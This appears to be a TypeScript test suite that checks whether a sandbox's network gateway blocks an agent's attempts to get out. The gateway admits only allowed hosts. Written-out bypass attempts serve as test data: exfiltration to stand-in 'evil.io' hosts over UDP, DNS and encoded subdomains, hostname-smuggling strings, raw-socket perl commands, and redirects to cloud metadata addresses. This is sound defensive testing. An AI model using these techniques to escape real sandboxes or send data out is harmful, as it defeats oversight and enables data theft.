import { beforeAll, describe, expect, test } from "vitest";
import { attackFixture, requestsIn } from "./stage/attack-fixture.ts";
import type { Attack } from "./stage/hostile-client.ts";
import type { HostileSession } from "./stage/hostile-session.ts";
import { connectTls, connectTo, get, plainGet, sayRaw, socks, socksCommand } from "./stage/http-words.ts";
import { ALLOWED_HOSTS, EVIL, GOOD, ZONE } from "./stage/zones.ts";

const fixture = attackFixture(ZONE);
let limited: HostileSession;

beforeAll(async () => {
  limited = await fixture.session({ networking: { type: "limited", allowed_hosts: ALLOWED_HOSTS } });
});

const bytes = (address: string): number[] => address.split(".").map(Number);
const talk = (host: string, port: number): Attack => ({ try: "talk", to: { host, port }, say: [get("/", host)] });

describe("what is allowed goes through, so that the refusals below mean something", () => {
  test.each<[string, Attack, string]>([
    ["CONNECT with TLS", connectTls("example.com:443", "example.com", "example.com"), "example.com"],
    ["CONNECT in mixed case", connectTls("EXAMPLE.Com:443", "example.com", "example.com"), "example.com"],
    ["CONNECT below a wildcard", connectTls("a.wild.example:443", "a.wild.example", "a.wild.example"), "a.wild.example"],
    [
      "CONNECT two below it",
      connectTls("a.sub.wild.example:443", "a.sub.wild.example", "a.sub.wild.example"),
      "a.sub.wild.example",
    ],
    ["plain HTTP", plainGet("http://example.com/"), "example.com"],
    ["plain HTTP in punycode", plainGet("http://xn--bcher-kva.example/"), "xn--bcher-kva.example"],
    ["SOCKS5 with a name", socks("example.com", 80, get("/", "example.com")), "example.com"],
  ])("%s", async (_name, attack, host) => {
    expect(await fixture.expectServed(limited, attack)).toMatchObject({ host, url: "/" });
  });

  test("curl, as everybody uses it", async () => {
    await fixture.stage.inside.forget();
    expect(await limited.bash("curl -sS https://example.com/ http://example.com/plain 2>&1")).toMatch(
      /reached example.com.*reached example.com/s,
    );
    expect(requestsIn(await fixture.reached())).toMatchObject([
      { tls: true, sni: "example.com" },
      { tls: false, url: "/plain" },
    ]);
  });
});

describe("ways out that pass the gateway by", () => {
  const direct: [string, Attack][] = [
    ["TCP to an IPv4 address", talk(GOOD.v4, 443)],
    ["TCP to an IPv6 address", talk(GOOD.v6, 443)],
    ["TCP to an address of the local network", talk("192.168.1.1", 80)],
    ["TCP to a mail server", talk(EVIL.v4, 25)],
    ["UDP to an IPv4 address", { try: "datagram", host: EVIL.v4, port: 9999, text: "stolen" }],
    ["UDP to an IPv6 address", { try: "datagram", host: EVIL.v6, port: 9999, text: "stolen" }],
    ["QUIC's port", { try: "datagram", host: GOOD.v4, port: 443, text: "stolen" }],
    ["a name looked up", { try: "lookup", name: "stolen-data.evil.io" }],
    ["a name server asked", { try: "resolve", name: "stolen-data.evil.io", server: "8.8.8.8" }],
    ["the machine's name server asked", { try: "resolve", name: "stolen-data.evil.io", server: "127.0.0.1" }],
    ["DNS over TLS", talk("8.8.8.8", 853)],
  ];

  test.each(direct)("%s works beside the sandbox", async (_name, attack) => {
    expect(await fixture.tryOutside(attack)).not.toEqual([]);
  });

  test.each(direct)("%s", async (_name, attack) => {
    const { outcome, reached } = await fixture.try(limited, attack);
    expect(reached).toEqual([]);
    expect(outcome.error).toMatch(/^(E[A-Z_]+|silence)$/);
  });

  test("ICMP, and raw and packet sockets", async () => {
    const perl = (family: string, type: string, protocol: number): string =>
      `perl -MSocket -e 'socket(my $s, ${family}, ${type}, ${protocol}) or exit(print "no socket: $!\\n");` +
      ` send($s, "\\x08\\x00\\xf7\\xff" . "\\x00" x 4, 0, sockaddr_in(0, inet_aton("${EVIL.v4}"))) or exit(print "not sent: $!\\n"); print "SENT\\n"'`;
    const tries = [
      perl("AF_INET", "SOCK_DGRAM", 1),
      perl("AF_INET", "SOCK_RAW", 1),
      perl("AF_INET", "SOCK_RAW", 255),
      perl("17", "SOCK_RAW", 768),
    ];
    for (const command of tries) expect(await limited.bash(command)).toMatch(/^(no socket|not sent): /);
    expect(await fixture.stage.inside.run("sh", ["-c", tries[0] ?? ""])).toBe("SENT\n");
  });

  test("network devices, routes and namespaces of its own", async () => {
    const text = await limited.bash(
      "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | xargs; unshare --net --user true; ip link add dummy0 type dummy; ip route add default dev lo; echo over",
    );
    expect(text.split("\n")[0]).toBe("lo");
    expect((await fixture.try(limited, talk(EVIL.v4, 443))).reached).toEqual([]);
  });
});

describe("hosts that the environment does not allow", () => {
  const names: [string, string][] = [
    ["another host", "evil.io"],
    ["in mixed case", "EVIL.io"],
    ["with a dot behind", "evil.io."],
    ["an allowed one with two dots behind", "example.com.."],
    ["an allowed one as the ending", "evilexample.com"],
    ["an allowed one as the beginning", "example.com.evil.io"],
    ["below an exact one", "www.example.com"],
    ["the apex of a wildcard", "wild.example"],
    ["the apex of a wildcard with a dot behind", "wild.example."],
    ["a wildcard's apex as the ending", "wildwild.example"],
    ["a wildcard as the beginning", "a.wild.example.evil.io"],
    ["the wildcard itself", "*.wild.example"],
    ["an empty label below a wildcard", ".wild.example"],
    ["a name that looks the same, in punycode", "xn--exmple-4nf.com"],
    ["a name that looks the same, in UTF-8", Buffer.from("exаmple.com").toString("latin1")],
    ["a user that looks like a host", "example.com@evil.io"],
    ["an escaped dot", "example.com%2eevil.io"],
    ["a NUL", "example.com\0.evil.io"],
    ["a backslash", "example.com\\.evil.io"],
    ["a fragment", "evil.io#.wild.example"],
    ["a question mark", "evil.io?.wild.example"],
    ["a slash", "evil.io/.wild.example"],
    ["a tab", "evil.io\t.wild.example"],
    ["the address of an allowed host", GOOD.v4],
    ["the IPv6 address of an allowed host", `[${GOOD.v6}]`],
    ["its address as one number", "1572395042"],
    ["a resolver for DNS over HTTPS", "dns.google"],
    ["that resolver's address", "8.8.8.8"],
    ["stolen data as a name", "c2VjcmV0LWtleQ.evil.io"],
    ["no host at all", ""],
  ];

  test.each(names)("%s", (_name, host) =>
    fixture.expectRefused(
      limited,
      connectTls(`${host}:443`, "example.com", "example.com"),
      plainGet(`http://${host}/`, "example.com"),
      socks(host, 80, get("/", "example.com")),
    ),
  );

  test("an address, by SOCKS5", () => fixture.expectRefused(limited, socks(bytes(GOOD.v4), 443, get("/", "example.com"))));
  test("other SOCKS commands", async () => {
    await fixture.expectRefused(
      limited,
      socksCommand(2, "example.com", 80),
      socksCommand(3, bytes("0.0.0.0"), 0),
      sayRaw(`\x04\x01\x00\x50${String.fromCharCode(...bytes(GOOD.v4))}user\0`),
    );
  });

  test("the agent can read what is wrong and what would help", async () => {
    const plain = await limited.bash("curl -s http://evil.io/");
    expect(plain).toContain("evil.io");
    expect(plain).toContain("allowed_hosts");
    const { outcome } = await fixture.try(limited, connectTo("evil.io:443"));
    expect(outcome.answers[0]).toMatch(/^HTTP\/1\.1 403 .*evil\.io.*allowed_hosts/s);
  });

  test("a redirect from an allowed host", async () => {
    await fixture.stage.inside.forget();
    const text = await limited.bash(
      "for to in https://evil.io/ http://evil.io/ https://example.com@evil.io/ http://169.254.169.254/ http://127.0.0.1:80/; do" +
        ` curl -sL -o /dev/null -w '%{http_connect}/%{http_code} ' "https://example.com/redirect?to=$to"; done`,
    );
    expect(text).not.toMatch(/\/200/);
    const requests = requestsIn(await fixture.reached());
    expect(requests.map(({ host }) => host)).toEqual(Array(5).fill("example.com"));
    expect(requests.every(({ url }) => url.startsWith("/redirect"))).toBe(true);
  });
});

describe("ports that are not the web's", () => {
  const ports = [22, 25, 53, 853, 5432, 6379, 8080, 8443, 0, 65_536, 99_999].map((port) => `example.com:${port}`);
  const unreadable = [
    "example.com",
    "example.com:",
    "example.com:443:443",
    "example.com:+443",
    "example.com:0x1bb",
    "example.com:-1",
  ];

  test("by CONNECT", () =>
    fixture.expectRefused(
      limited,
      ...[...ports, ...unreadable].map((authority) => connectTo(authority, get("/", "example.com"))),
    ));

  test("by plain HTTP and SOCKS5", () =>
    fixture.expectRefused(limited, plainGet("http://example.com:8080/"), socks("example.com", 22, "SSH-2.0-x\r\n")));
});
